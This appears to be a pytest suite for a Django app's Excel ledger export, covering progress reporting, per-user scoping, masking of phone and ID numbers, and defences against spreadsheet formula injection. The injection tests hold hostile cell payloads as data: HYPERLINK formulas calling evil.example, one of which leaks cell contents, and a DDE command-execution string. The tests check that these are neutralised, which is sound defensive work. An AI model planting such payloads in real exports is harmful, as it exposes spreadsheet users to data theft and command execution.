"""The ledger export API: write_xlsx with its progress callback, the immediate download, and the enterprise
ledger built without a request (what a background export job does)."""

from __future__ import annotations

import io
import re

import pytest
from django.http import QueryDict
from django.urls import reverse
from openpyxl import load_workbook

from anlan.core import exports
from anlan.core.models import Region
from anlan.core.rules import mask_id_number, mask_phone

from .factories import EnterpriseFactory, industry

pytestmark = pytest.mark.django_db


def numbers_ledger(n: int) -> exports.Ledger:
    """A ledger of n rows that needs no data: the queryset is only counted."""
    return exports.Ledger(
        name="numbers",
        sheet_title="数字",
        columns=[("序号", 8), ("名称", 20)],
        queryset=Region.objects.all(),
        rows=lambda queryset: ([i, f"第{i}行"] for i in range(1, n + 1)),
    )


def sheet_of(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def rows_of(data: bytes) -> list[list]:
    return [list(row) for row in sheet_of(data).iter_rows(values_only=True)]


def test_write_xlsx_reports_progress_every_n_rows_and_once_at_the_end():
    handle = io.BytesIO()
    calls = []
    written = exports.write_xlsx(numbers_ledger(5), handle, progress=calls.append, every=2)
    assert written == 5
    assert calls == [2, 4, 5]
    assert rows_of(handle.getvalue()) == [
        ["序号", "名称"],
        [1, "第1行"],
        [2, "第2行"],
        [3, "第3行"],
        [4, "第4行"],
        [5, "第5行"],
    ]


def test_an_empty_ledger_reports_zero_rows_once_and_keeps_its_header():
    handle = io.BytesIO()
    calls = []
    assert exports.write_xlsx(numbers_ledger(0), handle, progress=calls.append) == 0
    assert calls == [0]
    assert rows_of(handle.getvalue()) == [["序号", "名称"]]


def test_write_xlsx_gives_the_sheet_its_title_a_bold_header_and_the_column_widths():
    handle = io.BytesIO()
    exports.write_xlsx(numbers_ledger(1), handle)
    sheet = sheet_of(handle.getvalue())
    assert sheet.title == "数字"
    assert [sheet.cell(1, column).font.b for column in (1, 2)] == [True, True]
    assert not sheet.cell(2, 1).font.b
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (8, 20)


def test_the_ledger_file_name_is_its_stem_and_the_local_time():
    assert re.fullmatch(r"numbers-\d{8}-\d{4}\.xlsx", numbers_ledger(0).filename())


def test_xlsx_response_streams_the_whole_ledger_as_an_attachment():
    response = exports.xlsx_response(numbers_ledger(3))
    assert response["Content-Type"] == exports.XLSX
    assert re.fullmatch(r'attachment; filename="numbers-\d{8}-\d{4}\.xlsx"', response["Content-Disposition"])
    assert len(rows_of(b"".join(response.streaming_content))) == 4


def test_the_enterprise_ledger_is_scoped_without_a_request(cast):
    ledger = exports.enterprise_ledger(cast["town_b"], QueryDict(""))
    assert ledger.count() == 1
    assert [row[1] for row in ledger.rows(ledger.queryset)] == ["安徽来安化工有限公司"]


def test_the_enterprise_ledger_applies_the_saved_query_string(cast):
    EnterpriseFactory(name="来安县建工二公司", region=cast.village_a, industry=industry("construction"))
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("q=建工&sort=-name"))
    assert [row[1] for row in ledger.rows(ledger.queryset)] == ["来安县建工集团有限公司", "来安县建工二公司"]
    assert exports.enterprise_ledger(cast["county_office"], QueryDict("q=建工")).count() == 2
    assert exports.enterprise_ledger(cast["county_office"], QueryDict("")).count() == 3


def test_an_invalid_query_exports_the_whole_scope_in_list_order(cast):
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("scale=nonsense&sort=-name"))
    assert [row[1] for row in ledger.rows(ledger.queryset)] == [
        cast.enterprise_x.name,
        cast.enterprise_y.name,
    ]


def enterprise_row(cast, user) -> dict:
    ledger = exports.enterprise_ledger(user, QueryDict("q=建工"))
    (row,) = ledger.rows(ledger.queryset)
    return dict(zip(ledger.headers, row, strict=True))


def test_an_enterprise_row_holds_the_same_values_and_types_as_the_record(cast):
    x = cast.enterprise_x
    x.longitude, x.latitude, x.has_major_hazard_source = "118.4321000", "32.4523000", True
    x.save()
    row = enterprise_row(cast, cast["town_a"])
    assert row == {
        "统一社会信用代码": x.uscc,
        "单位名称": x.name,
        "所属区划": "东关社区",
        "主行业领域": x.industry.name,
        "地址": x.address,
        "规模": x.get_scale_display(),
        "从业人员数": 20,
        "法定代表人": x.legal_representative,
        "主要负责人": x.principal.name,
        "主要负责人居民身份证号码": x.principal.id_number,
        "主要负责人电话": x.principal_phone,
        "安全管理人员": x.safety_manager,
        "安全管理人员电话": x.safety_manager_phone,
        "经营状态": x.get_status_display(),
        "重大危险源": "是",
        "人员密集场所": "否",
        "经度": 118.4321,
        "纬度": 32.4523,
    }
    assert type(row["经度"]) is float


def test_phones_and_id_numbers_are_masked_for_a_user_who_may_not_see_them(cast):
    x = cast.enterprise_x
    row = enterprise_row(cast, cast["leader"])
    assert row["主要负责人居民身份证号码"] == mask_id_number(x.principal.id_number)
    assert row["主要负责人电话"] == mask_phone(x.principal_phone)
    assert row["安全管理人员电话"] == mask_phone(x.safety_manager_phone)
    assert row["主要负责人居民身份证号码"] != x.principal.id_number


def test_an_enterprise_without_principal_exports_empty_principal_cells(cast):
    EnterpriseFactory(
        name="无负责人公司",
        region=cast.village_a,
        industry=industry("commerce"),
        principal=None,
        principal_phone="",
    )
    for user in (cast["town_a"], cast["leader"]):
        ledger = exports.enterprise_ledger(user, QueryDict("q=无负责人"))
        (row,) = ledger.rows(ledger.queryset)
        assert row[8:11] == ["", "", ""]


def test_the_enterprise_ledger_reads_in_a_constant_number_of_queries(cast, django_assert_max_num_queries):
    for number in range(30):
        EnterpriseFactory(name=f"批量{number}公司", region=cast.village_a, industry=industry("commerce"))
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("q=公司"))
    with django_assert_max_num_queries(3):
        assert exports.write_xlsx(ledger, io.BytesIO()) == 32


def test_the_export_view_still_downloads_at_once(cast, as_user):
    response = as_user(cast["town_a"]).get(reverse("core:enterprise-export"), {"q": "建工"})
    assert response.status_code == 200
    assert re.fullmatch(
        r'attachment; filename="enterprises-\d{8}-\d{4}\.xlsx"', response["Content-Disposition"]
    )
    assert [row[1] for row in rows_of(b"".join(response.streaming_content))[1:]] == ["来安县建工集团有限公司"]


# ---------------------------------------------------------------- formula injection (OWASP CSV injection)


def text_ledger(values: list) -> exports.Ledger:
    return exports.Ledger(
        name="texts",
        sheet_title="文本",
        columns=[("值", 20)],
        queryset=Region.objects.all(),
        rows=lambda queryset: ([value] for value in values),
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/","点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr"],
)
def test_text_that_would_start_a_formula_is_written_as_quoted_text(text):
    handle = io.BytesIO()
    exports.write_xlsx(text_ledger([text]), handle)
    cell = sheet_of(handle.getvalue()).cell(2, 1)
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def test_numbers_dates_and_plain_text_keep_their_types():
    handle = io.BytesIO()
    exports.write_xlsx(text_ledger([-5, 3.5, "普通文本", "a=b"]), handle)
    cells = [sheet_of(handle.getvalue()).cell(row, 1) for row in (2, 3, 4, 5)]
    assert [(c.data_type, c.value, c.quotePrefix) for c in cells] == [
        ("n", -5, False),
        ("n", 3.5, False),
        ("s", "普通文本", False),
        ("s", "a=b", False),
    ]


def test_an_enterprise_address_set_to_a_hyperlink_formula_is_exported_as_text(cast, as_user):
    address = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    cast.enterprise_x.address = address
    cast.enterprise_x.save()
    response = as_user(cast["town_a"]).get(reverse("core:enterprise-export"), {"q": "建工"})
    sheet = sheet_of(b"".join(response.streaming_content))
    headers = [cell.value for cell in sheet[1]]
    address_cell = sheet.cell(2, headers.index("地址") + 1)
    employees_cell = sheet.cell(2, headers.index("从业人员数") + 1)
    assert (address_cell.data_type, address_cell.value, address_cell.quotePrefix) == ("s", address, True)
    assert (employees_cell.data_type, employees_cell.value) == ("n", 20)
